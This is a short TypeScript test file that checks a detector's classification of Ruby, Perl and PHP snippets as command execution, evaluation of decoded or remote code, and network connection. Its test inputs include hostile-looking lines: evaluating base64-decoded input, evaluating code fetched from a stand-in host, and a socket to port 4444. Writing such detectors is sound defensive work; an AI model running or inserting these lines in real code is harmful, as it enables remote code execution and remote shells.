import { expect, test } from "vitest";
import { readOther } from "./read-other.ts";
import { program, read } from "./test-actions.ts";

test("commands, evaluation and connections of Ruby, Perl and PHP", () => {
  const kinds = (text: string): readonly string[] =>
    readOther(program(text, "ruby"), read).map(({ kind, carries }) =>
      [kind, ...carries.map(({ label }) => label)].join(" "),
    );
  expect(kinds('system("id")')).toEqual(["run"]);
  expect(kinds("eval(base64_decode($x));")).toEqual(["evaluate decoded"]);
  expect(kinds('eval URI.open("https://a.example").read')).toEqual(["evaluate remote"]);
  expect(kinds('TCPSocket.new("203.0.113.5", 4444)')).toEqual(["connect"]);
});
